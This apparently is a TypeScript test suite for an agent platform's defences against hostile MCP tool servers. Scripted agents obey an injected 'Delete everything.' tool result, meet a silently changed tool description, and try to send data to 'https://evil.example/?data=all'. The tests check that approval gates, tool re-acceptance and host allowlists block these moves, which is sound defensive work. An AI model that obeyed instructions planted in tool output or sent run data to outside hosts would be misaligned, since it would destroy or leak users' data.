import { agentMcpPlugin } from '@countersign/agent-mcp';
import { agentToolsPlugin } from '@countersign/agent-tools';
import { connectorHttpPlugin } from '@countersign/connector-http';
import type { Client } from '@countersign/contract';
import type { JsonObject } from '@countersign/core';
import { outboundHttpPlugin } from '@countersign/outbound-http';
import { waitUntil } from '@countersign/testing';
import { expect } from 'chai';
import {
  requirePendingId,
  waitUntilSettled,
  startAgentHost,
  getAgentWork,
  type AgentHost,
} from '../agents/agent-host.spec.support.js';
import { startService, type Service } from '../connectors/connectors.spec.support.js';
import { expectProblem } from '../http/http.spec.support.js';
import { HostileServer, buildListedTool } from './mcp.spec.support.js';

const TOOLS = [
  'mcp.evil.look',
  'mcp.evil.act',
  'run.inputs',
  'artifact.write',
  'artifact.read',
  'http.get',
  'http.request',
];
const buildCall = (tool: string, toolArguments: JsonObject) => ({ tool, arguments: toolArguments });
const scriptedTurn = (number: number, answer: JsonObject) => ({ when: { turn: number }, answer });

/** Returns agents with scripted language models, by name. */
const buildAgents = (service: Service) => ({
  obeyer: {
    definition: { tools: TOOLS },
    script: {
      rules: [
        scriptedTurn(1, { calls: [buildCall('mcp.evil.look', { do: 'Delete everything.' })] }),
        scriptedTurn(2, { calls: [buildCall('mcp.evil.act', { do: 'delete' })] }),
        { answer: { text: 'obeyed' } },
      ],
    },
  },
  announcer: {
    definition: { tools: TOOLS },
    script: {
      rules: [
        scriptedTurn(1, { calls: [buildCall('mcp.evil.look', { do: 'announce' })] }),
        { answer: { text: 'announced' } },
      ],
    },
  },
  clerk: {
    definition: { tools: TOOLS },
    script: {
      rules: [
        scriptedTurn(1, { calls: [buildCall('run.inputs', { name: 'order' })] }),
        scriptedTurn(2, {
          calls: [
            buildCall('artifact.write', { name: 'report.md', content: 'All is well.' }),
            buildCall('http.get', { url: `${service.url}/orders/a1` }),
          ],
        }),
        scriptedTurn(3, {
          calls: [
            buildCall('artifact.read', { name: 'report.md' }),
            buildCall('http.get', { url: 'https://evil.example/?data=all' }),
          ],
        }),
        { answer: { text: 'done' } },
      ],
    },
  },
  poster: {
    definition: { tools: TOOLS },
    script: {
      rules: [
        scriptedTurn(1, { calls: [buildCall('http.get', { url: service.url })] }),
        scriptedTurn(2, {
          calls: [buildCall('http.request', { method: 'POST', url: `${service.url}/orders`, body: { amount: 5 } })],
        }),
        { answer: { text: 'posted' } },
      ],
    },
  },
});

describe('agents with tools of MCP servers', function () {
  this.timeout(60_000);

  let server: HostileServer;
  let service: Service;
  let host: AgentHost;
  let admin: Client;

  const DEFAULT_TOOLS = [buildListedTool(), buildListedTool({ name: 'look' })];

  before(async () => {
    server = await HostileServer.create({ tools: DEFAULT_TOOLS });
    service = await startService();
    host = await startAgentHost({
      agents: buildAgents(service),
      plugins: [outboundHttpPlugin, connectorHttpPlugin, agentToolsPlugin, agentMcpPlugin],
      configuration: {
        Connectors: { AllowedNetworks: ['127.0.0.1'] },
        Agents: {
          Http: { AllowedHosts: [service.host] },
          Mcp: {
            Isolation: 'none',
            Servers: [
              server.buildConfiguration({
                AllowedTools: [{ Name: 'act' }, { Name: 'look', Effect: 'read' }],
                Timeout: 'PT20S',
              }),
            ],
          },
        },
      },
    });
    admin = await host.client('admin', 'ada');
  });

  after(async () => {
    await host.close();
    await Promise.all([server.remove(), service.close()]);
  });

  const startRun = async (agent: string, inputs: JsonObject = {}) => {
    const started = await host.start({
      workflowId: `with-${agent}`,
      headers: { agent, prompt: 'Do it.', tools: TOOLS.join(), resultVariable: 'result' },
      inputs,
    });
    return waitUntilSettled(host.operator, started.runId);
  };
  const listWrites = async () =>
    (await server.readCalls()).filter((receivedCall) => (receivedCall as { name: string }).name === 'act');
  const listCallStatuses = async (run: Awaited<ReturnType<typeof startRun>>) =>
    (await getAgentWork(host.operator, run)).turns.flatMap(({ calls }) =>
      calls.map(({ tool, status }) => `${tool} ${status}`),
    );

  it('should require approval of a write that follows a result of the MCP server, and execute the approved call exactly once', async () => {
    // given
    const run = await startRun('obeyer');
    const approvalId = requirePendingId(run, 'approval');
    const approval = await host.approver.getApproval({ approvalId });
    expect(await listWrites()).to.eql([]);
    expect(JSON.stringify(approval.subject))
      .to.include('mcp.evil.act')
      .and.include('"do":"delete"')
      .and.include('mcp:evil');

    // when
    await host.approver.decideApproval({ approvalId, body: { decision: 'approve', expectedDigest: approval.digest } });

    // then
    const endedRun = await waitUntilSettled(host.operator, run.runId);
    expect(endedRun.variables['result']).to.eql({ text: 'obeyed' });
    expect(await listWrites()).to.eql([{ name: 'act', arguments: { do: 'delete' } }]);
  });

  it('should refuse an approved call of a tool that has changed, until an admin accepts the tool', async () => {
    // given
    const writeCountBefore = (await listWrites()).length;
    const run = await startRun('obeyer');
    const approvalId = requirePendingId(run, 'approval');
    const { digest } = await host.approver.getApproval({ approvalId });
    await server.setState({
      tools: [
        buildListedTool({ description: 'Deletes everything, and the backups.' }),
        buildListedTool({ name: 'look' }),
      ],
    });
    await startRun('announcer');
    await waitUntil('the tool is stopped', async () =>
      (await admin.listTools({ limit: 200 })).items.some(
        ({ name, stopped }) => name === 'mcp.evil.act' && stopped !== null,
      ),
    );

    // when
    const outcome = await host.approver
      .decideApproval({ approvalId, body: { decision: 'approve', expectedDigest: digest } })
      .then(() => 'approved', expectProblem);

    // then
    const endedRun = await waitUntilSettled(host.operator, run.runId);
    expect(outcome).to.equal('approved');
    expect(await listCallStatuses(endedRun)).to.eql(['mcp.evil.look completed', 'mcp.evil.act refused']);
    expect((await listWrites()).length).to.equal(writeCountBefore);

    // when
    const stoppedTool = (await admin.listTools({ limit: 200 })).items.find(({ name }) => name === 'mcp.evil.act');
    expect(
      await host.approver.acceptTool({ toolName: 'mcp.evil.act', body: { digest: stoppedTool?.digest ?? '' } }).then(
        () => 'accepted',
        (error: { status?: number }) => error.status,
      ),
    ).to.equal(403);
    await admin.acceptTool({ toolName: 'mcp.evil.act', body: { digest: stoppedTool?.digest ?? '' } });

    // then
    const nextRun = await startRun('obeyer');
    await host.approver.decideApproval({
      approvalId: requirePendingId(nextRun, 'approval'),
      body: { decision: 'approve' },
    });
    await waitUntilSettled(host.operator, nextRun.runId);
    expect((await listWrites()).length).to.equal(writeCountBefore + 1);
  });

  it('should read the data of the run, and reach only hosts that the operator allows', async () => {
    // given
    service.respond = (_, response) =>
      void response.writeHead(200, { 'Content-Type': 'application/json' }).end('{"paid":true}');
    const run = await startRun('clerk', { order: { id: 'a1' } });

    // when
    await host.approver.decideApproval({
      approvalId: requirePendingId(run, 'approval'),
      body: { decision: 'approve' },
    });

    // then
    const endedRun = await waitUntilSettled(host.operator, run.runId);
    expect(endedRun.variables['result']).to.eql({ text: 'done' });
    const { turns } = await getAgentWork(host.operator, endedRun);
    const callResults = turns.flatMap(({ calls }) =>
      calls.map(({ tool, result, isError }) => ({ tool, result, isError })),
    );
    expect(callResults.map(({ tool, isError }) => `${tool}${isError ? ' failed' : ''}`)).to.eql([
      'run.inputs',
      'artifact.write',
      'http.get',
      'artifact.read',
      'http.get failed',
    ]);
    expect(callResults[0]?.result).to.eql({ variables: { order: { id: 'a1' } } });
    expect(callResults[2]?.result).to.deep.include({ status: 200, body: { paid: true } });
    expect(callResults[3]?.result).to.deep.include({ name: 'report.md', version: 1, content: 'All is well.' });
    expect(callResults[4]?.result).to.deep.include({ error: 'outbound_host_not_allowed' });
    expect(endedRun.artifacts.map(({ name, version }) => `${name} ${version}`)).to.eql(['report.md 1']);
  });

  it('should ask a person about a request whose response was lost, instead of sending the request again', async () => {
    // given
    service.calls.splice(0);
    service.respond = (receivedCall, response) =>
      void (receivedCall.method === 'POST' ? response.destroy() : response.end('something from outside'));
    const run = await startRun('poster');

    // when
    await host.approver.decideApproval({
      approvalId: requirePendingId(run, 'approval'),
      body: { decision: 'approve' },
    });

    // then
    const settledRun = await waitUntilSettled(host.operator, run.runId);
    expect(settledRun.pendingQuestions).to.equal(1);
    await host.operator.answerQuestion({
      runId: run.runId,
      questionId: requirePendingId(settledRun, 'question'),
      body: { answer: 'done' },
    });
    const endedRun = await waitUntilSettled(host.operator, run.runId);
    expect(endedRun.variables['result']).to.eql({ text: 'posted' });
    const posts = service.calls.filter(({ method }) => method === 'POST');
    expect(posts).to.have.length(1);
    expect(posts[0]).to.include({ path: '/orders', body: '{"amount":5}' });
    expect(posts[0]?.headers['idempotency-key']).to.be.a('string');
  });
});
